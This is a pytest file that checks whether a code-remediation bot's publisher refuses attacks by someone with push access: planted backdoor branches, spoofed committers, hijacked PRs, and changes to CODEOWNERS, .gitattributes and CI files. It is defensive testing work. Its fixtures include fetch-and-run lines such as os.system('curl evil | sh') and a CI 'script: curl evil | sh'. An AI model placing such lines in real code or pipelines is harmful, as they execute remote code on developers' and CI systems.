"""Publish trusts only what it built: attacks by someone with push access, against a real bare remote and the
fake GitHub. Each test names the attack; each failed against the publisher before issue 17."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from remediate.keys import idempotency_key
from remediate.publish import PublishStatus
from remediate.publish.message import TRAILER_KEY, TRAILER_RUN
from tests.publish.conftest import CHECK, GIT_ENV, NAME, OWNER, Remote, git, make_report, publish
from tests.publish.fakegithub import BOT, FakeGitHub, pull_request

BOT_ID = "remediate[bot] <remediate[bot]@users.noreply.github.com>"


def key_of(remote: Remote, base: str | None = None) -> str:
    report = make_report(remote.patch)
    assert report.facts is not None
    return idempotency_key(f"{OWNER}/{NAME}", remote.failing_sha, CHECK, report.facts.fingerprint_basis(), base)


def plant(remote: Remote, tmp_path: Path, content: str, *, parent: str | None = None, committer: str = BOT_ID) -> str:
    """A repo writer pushes `remediate/test-test-add-<key8>` first, with the right trailer, any content."""
    key = key_of(remote)
    work = tmp_path / "attacker"
    if not work.exists():
        git(tmp_path, "clone", "-q", str(remote.bare), str(work))
    git(work, "checkout", "-q", "--detach", parent or remote.failing_sha)
    (work / "src" / "calc.py").write_text(content)
    name, email = committer.removesuffix(">").split(" <")
    env = {**GIT_ENV, "GIT_COMMITTER_NAME": name, "GIT_COMMITTER_EMAIL": email}
    subprocess.run(
        ["git", "commit", "-q", "-am", f"fix\n\n{TRAILER_RUN}: x\n{TRAILER_KEY}: {key}"],
        cwd=work, env=env, check=True, capture_output=True,
    )  # fmt: skip
    branch = f"remediate/test-test-add-{key[:8]}"
    git(work, "push", "-q", "origin", f"HEAD:refs/heads/{branch}")
    return branch


FIXED = "def add(a, b):\n    return a + b\n"
BACKDOOR = "import os\nos.system('curl evil | sh')\n\n\ndef add(a, b):\n    return a + b\n"


async def test_a_planted_branch_with_a_backdoor_is_not_adopted(
    remote: Remote, fake: FakeGitHub, token: str, tmp_path: Path
) -> None:
    branch = plant(remote, tmp_path, BACKDOOR)
    result = await publish(make_report(remote.patch), remote, fake, token)
    assert result.status == PublishStatus.REFUSED, result.message
    assert "tree differs from the verified patch" in result.message and branch in result.message
    assert fake.pulls == []  # no App-authored PR over the attacker's commit


async def test_a_planted_branch_on_another_parent_is_not_adopted(
    remote: Remote, fake: FakeGitHub, token: str, tmp_path: Path
) -> None:
    first = git(remote.bare, "rev-list", "--max-parents=0", "main").strip()
    plant(remote, tmp_path, FIXED, parent=first)
    result = await publish(make_report(remote.patch), remote, fake, token)
    assert result.status == PublishStatus.REFUSED and "parent is not the failing commit" in result.message


async def test_a_planted_branch_by_another_committer_is_not_adopted(
    remote: Remote, fake: FakeGitHub, token: str, tmp_path: Path
) -> None:
    plant(remote, tmp_path, FIXED, committer="Mallory <m@example.com>")
    result = await publish(make_report(remote.patch), remote, fake, token)
    assert result.status == PublishStatus.REFUSED and "committer is not remediate[bot]" in result.message


async def test_a_pr_from_our_branch_by_someone_else_is_not_reported_as_the_fix(
    remote: Remote, fake: FakeGitHub, token: str
) -> None:
    first = await publish(make_report(remote.patch), remote, fake, token)
    assert first.status == PublishStatus.CREATED
    fake.pulls.clear()  # the bot's PR is gone; a human opens one from the same branch
    fake.pulls.append(
        pull_request(
            7, fake.repo_json(), first.branch or "", first.commit_sha or "", "main", "t", "b", False, "mallory"
        )
    )
    again = await publish(make_report(remote.patch), remote, fake, token)
    assert again.status == PublishStatus.REFUSED and "opened by 'mallory'" in again.message


async def test_a_pr_from_our_branch_into_another_base_is_not_reported_as_the_fix(
    remote: Remote, fake: FakeGitHub, token: str
) -> None:
    first = await publish(make_report(remote.patch), remote, fake, token)
    fake.pulls[0]["base"]["ref"] = "release-candidate"
    again = await publish(make_report(remote.patch), remote, fake, token)
    assert first.status == PublishStatus.CREATED
    assert again.status == PublishStatus.REFUSED and "its base is 'release-candidate'" in again.message


async def test_a_ruleset_reserving_remediate_branches_for_the_app_lets_it_publish(
    remote: Remote, fake: FakeGitHub, token: str
) -> None:
    fake.rules = {"remediate/**": ["creation", "update", "deletion"]}
    fake.bypass = {"remediate/**": "always"}  # the App is the ruleset's bypass actor
    result = await publish(make_report(remote.patch), remote, fake, token)
    assert result.status == PublishStatus.CREATED, result.message
    fake.bypass = {}
    other = make_report(remote.patch, root_cause="other")
    assert other.facts is not None
    other = other.model_copy(update={"facts": other.facts.model_copy(update={"failing_command": "pytest -x"})})
    refused = await publish(other, remote, fake, token)
    assert refused.status == PublishStatus.REFUSED and "cannot bypass" in refused.message


async def test_a_failing_commit_on_an_unmerged_branch_is_not_proposed_to_main(
    remote: Remote, fake: FakeGitHub, token: str, tmp_path: Path
) -> None:
    git(remote.checkout, "checkout", "-q", "-b", "feature")
    (remote.checkout / "unreviewed.py").write_text("STEAL = True\n")
    git(remote.checkout, "add", "-A")
    git(remote.checkout, "commit", "-q", "-m", "unreviewed work")
    feature_sha = git(remote.checkout, "rev-parse", "HEAD").strip()
    git(remote.checkout, "push", "-q", str(remote.bare), "feature")
    result = await publish(make_report(remote.patch), remote, fake, token, failing_commit=feature_sha)
    assert result.status == PublishStatus.REFUSED and "is not on main" in result.message
    assert fake.pulls == [] and set(remote.branches()) == {"main", "feature"}
    # Proposed to the branch it is on, it is published.
    onto = await publish(make_report(remote.patch), remote, fake, token, failing_commit=feature_sha, base="feature")
    assert onto.status == PublishStatus.CREATED and fake.pulls[0]["base"]["ref"] == "feature"


def test_the_base_is_part_of_the_key(remote: Remote) -> None:
    assert key_of(remote) != key_of(remote, "develop") != key_of(remote, "main")
    assert key_of(remote, "") == key_of(remote, None)


async def test_settings_come_from_the_base_not_from_the_branch_under_repair(
    remote: Remote, fake: FakeGitHub, token: str
) -> None:
    # The failing commit's own tree asks for auto-merge and another identity; the base says nothing.
    head_toml = '[publish]\nauto_merge = true\nauthor_name = "Mallory"\nauthor_email = "m@example.com"\n'
    (remote.checkout / ".remediate.toml").write_text(head_toml)
    fake.allow_auto_merge = True
    result = await publish(make_report(remote.patch), remote, fake, token)
    assert result.status == PublishStatus.CREATED and result.auto_merge == "off" and fake.graphql == []
    assert git(remote.bare, "log", "-1", "--format=%cn <%ce>", result.commit_sha or "").strip() == BOT_ID
    # What the base holds is what applies: served by the API from the base branch.
    fake.files[("main", ".remediate.toml")] = "[publish]\nenabled = false\n"
    other = make_report(remote.patch, root_cause="x")
    assert other.facts is not None
    other = other.model_copy(update={"facts": other.facts.model_copy(update={"failing_command": "pytest -x"})})
    refused = await publish(other, remote, fake, token)
    assert refused.status == PublishStatus.REFUSED and "disabled by .remediate.toml on main" in refused.message


def renamed(old: str, new: str) -> str:
    return f"diff --git a/{old} b/{new}\nsimilarity index 100%\nrename from {old}\nrename to {new}\n"


@pytest.mark.parametrize(
    ("patch_of", "bad"),
    [
        (lambda r: r.patch + renamed("README.md", ".remediate.toml"), ".remediate.toml"),
        (lambda r: r.patch + renamed(".remediate.toml", "notes.toml"), ".remediate.toml"),
        (lambda r: r.patch + "diff --git a/.gitattributes b/.gitattributes\nnew file mode 100644\n--- /dev/null\n"
         "+++ b/.gitattributes\n@@ -0,0 +1 @@\n+*.py filter=x\n", ".gitattributes"),
        (lambda r: r.patch + "diff --git a/src/.gitattributes b/src/.gitattributes\nnew file mode 100644\n"
         "--- /dev/null\n+++ b/src/.gitattributes\n@@ -0,0 +1 @@\n+* -diff\n", "src/.gitattributes"),
        (lambda r: r.patch + "diff --git a/CODEOWNERS b/CODEOWNERS\nnew file mode 100644\n--- /dev/null\n"
         "+++ b/CODEOWNERS\n@@ -0,0 +1 @@\n+* @mallory\n", "CODEOWNERS"),
        (lambda r: r.patch + "diff --git a/docs/CODEOWNERS b/docs/CODEOWNERS\nnew file mode 100644\n--- /dev/null\n"
         "+++ b/docs/CODEOWNERS\n@@ -0,0 +1 @@\n+* @mallory\n", "docs/CODEOWNERS"),
        (lambda r: r.patch + "diff --git a/.gitmodules b/.gitmodules\nnew file mode 100644\n--- /dev/null\n"
         "+++ b/.gitmodules\n@@ -0,0 +1 @@\n+[submodule \"x\"]\n", ".gitmodules"),
    ],
)  # fmt: skip
async def test_paths_a_published_fix_may_not_touch(
    remote: Remote, fake: FakeGitHub, token: str, patch_of: object, bad: str
) -> None:
    patch = patch_of(remote)  # type: ignore[operator]
    result = await publish(make_report(patch, changed_files=["src/calc.py"]), remote, fake, token)
    assert result.status == PublishStatus.REFUSED and bad in result.message, result.message
    assert fake.writes() == []


async def test_ci_include_files_named_by_the_base_are_not_published(
    remote: Remote, fake: FakeGitHub, token: str
) -> None:
    fake.files[("main", ".gitlab-ci.yml")] = "include:\n  - local: ci/build.yml\n  - local: '/ci/test.yml'\n"
    patch = (
        remote.patch + "diff --git a/ci/test.yml b/ci/test.yml\nnew file mode 100644\n--- /dev/null\n"
        "+++ b/ci/test.yml\n@@ -0,0 +1 @@\n+script: curl evil | sh\n"
    )
    result = await publish(make_report(patch), remote, fake, token)
    assert result.status == PublishStatus.REFUSED and "ci/test.yml" in result.message
    assert fake.writes() == []


async def test_bot_login_of_an_app_comes_from_github(remote: Remote, fake: FakeGitHub, token: str) -> None:
    assert BOT.endswith("[bot]")
    first = await publish(make_report(remote.patch), remote, fake, token)
    again = await publish(make_report(remote.patch), remote, fake, token, bot_login=None)
    assert first.status == PublishStatus.CREATED
    # A token whose identity is unknown cannot vouch for an existing PR: refused, not adopted.
    assert again.status == PublishStatus.REFUSED and "login is unknown" in again.message
